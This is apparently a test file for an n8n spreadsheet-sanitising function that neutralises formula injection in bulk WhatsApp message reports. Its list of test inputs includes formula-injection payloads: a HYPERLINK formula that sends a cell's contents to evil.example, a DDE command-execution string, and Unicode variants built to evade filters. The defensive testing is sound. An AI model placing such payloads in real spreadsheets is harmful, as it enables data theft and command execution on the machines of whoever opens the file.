import { readFileSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import type { IDataObject } from 'n8n-workflow';
import { forSpreadsheet } from '../../../../nodes/shared/bulk/spreadsheet';
import { byId } from '../../../support/desk360';
import { runSurface, surfaces, variables, type Surface } from '../../../support/desk360WhatsApp';
import { root } from '../../../support/n8n/install';
import { startStub, type Stub } from '../../../support/stubServer';

const formulas = [
	'=HYPERLINK("https://evil.example?x="&A1,"click")',
	"=cmd|' /C calc'!A0",
	'+1+1',
	'-2+3',
	'@SUM(1+1)',
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	'\u0000=1+1',
	' =1+1',
	'\u00A0=1+1',
	'\u200B=1+1',
	'\uFEFF=1+1',
	'＝1+1',
	'＋1+1',
	'－1+1',
	'＠SUM(1)',
	...['\u061C=1', '\u202E=1', '\u2066@SUM(1)', '\u180E+1', '\u0001-1', '\u007F=1', '\u034F=1', '\u{E0041}=1'],
	...['\uFE62SUM(1)', '\uFE631+1', '\uFE661+1', '\uFE6BSUM(1)', '\u22121+1'],
	'\t1',
	'\r1',
	'\n1',
	'+905551112233',
	'=',
	'-',
];
const harmless = [
	'',
	'Hello',
	"'=1+1",
	'905551112233',
	'a=b',
	'1-2',
	'name@example.com',
	'(555) 111',
	'"=1"',
	'é',
	'–1',
	'💬=',
];

test.each(formulas)('%j is marked, and nothing else of it changes', (text) => {
	expect(forSpreadsheet({ text })).toEqual({ text: `'${text}` });
});

test.each(harmless)('%j stays', (text) => {
	expect(forSpreadsheet({ text })).toEqual({ text });
});

test('texts in lists and records are marked; numbers and truth values stay', () => {
	const record = { ids: ['=1', 'x'], files: [{ column: '@x', line: -1 }], ok: true, none: null, count: -5 };
	expect(forSpreadsheet(record)).toEqual({ ...record, ids: ["'=1", 'x'], files: [{ column: "'@x", line: -1 }] });
});

test('whatever the text, it loses nothing, and does not begin like a formula', () => {
	const sign = fc.constantFrom(...'=+-@\t\r\n ＝＋－＠\u200B\uFEFF\0'.split(''));
	const text = fc.tuple(fc.array(sign, { maxLength: 4 }), fc.string({ unit: 'binary' }));
	fc.assert(
		fc.property(text, ([signs, rest]) => {
			const given = `${signs.join('')}${rest}`;
			const marked = String(forSpreadsheet({ given }).given);
			expect([given, `'${given}`]).toContain(marked);
			expect(marked).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/);
		}),
	);
});

test('the expression of the docs marks what a report marks', () => {
	const page = readFileSync(path.join(root, 'docs/security.md'), 'utf8');
	const [, source = 'none', flags] =
		/\{\{ \/(\S+)\/(u)\.test\(\$json\.text\) \? "'" \+ \$json\.text : \$json\.text \}\}/.exec(page) ?? [];
	const marks = new RegExp(source, flags);
	for (const text of formulas) expect([text, marks.test(text)]).toEqual([text, true]);
	for (const text of harmless) expect([text, marks.test(text)]).toEqual([text, false]);
});

describe.each(surfaces)('$name', (surface: Surface) => {
	let stub: Stub;

	beforeEach(async () => {
		stub = await startStub(({ method }) =>
			method === 'GET' ? { json: surface.templates } : { json: { message_id: '=1+1', id: '@x' } },
		);
	});
	afterEach(async () => await stub.close());

	async function report(additionalFields: IDataObject): Promise<IDataObject[]> {
		const parameters = {
			resource: 'template',
			operation: 'sendBulk',
			recipientsSource: 'items',
			to: '={{ $json.phone }}',
			templateId: byId('order_update'),
			templateVariables: variables({ 'body-1': 'Nathan', 'body-2': 'A1' }),
			additionalFields: { ...additionalFields },
		};
		const items = [...formulas, '+905551112244'].map((phone) => ({ json: { phone } }));
		const output = await runSurface(surface, `${stub.origin}/v1`, Object(parameters), { items });
		return output.map(({ json }) => json);
	}

	const texts = (value: unknown): string[] =>
		typeof value === 'string'
			? [value]
			: typeof value === 'object' && value !== null
				? Object.values(value).flatMap(texts)
				: [];

	test('no text of a report begins like a formula', async () => {
		const rows = await report({ spreadsheetReport: true });
		expect(rows.length).toBeGreaterThan(formulas.length);
		expect(texts(rows).filter((text) => /^[\s=+\-@\0＝＋－＠\u200B\uFEFF]/.test(text))).toEqual([]);
		expect(rows.map(({ entered }) => entered)).toContain(`'${formulas[0]}`);
		expect(rows.map(({ to }) => to)).toContain("'+905551112233");
	});

	test('without the option texts are as they were entered', async () => {
		const rows = await report({});
		expect(rows.map(({ entered }) => entered)).toContain(formulas[0]);
		expect(rows.map(({ to }) => to)).toContain('+905551112233');
	});
});
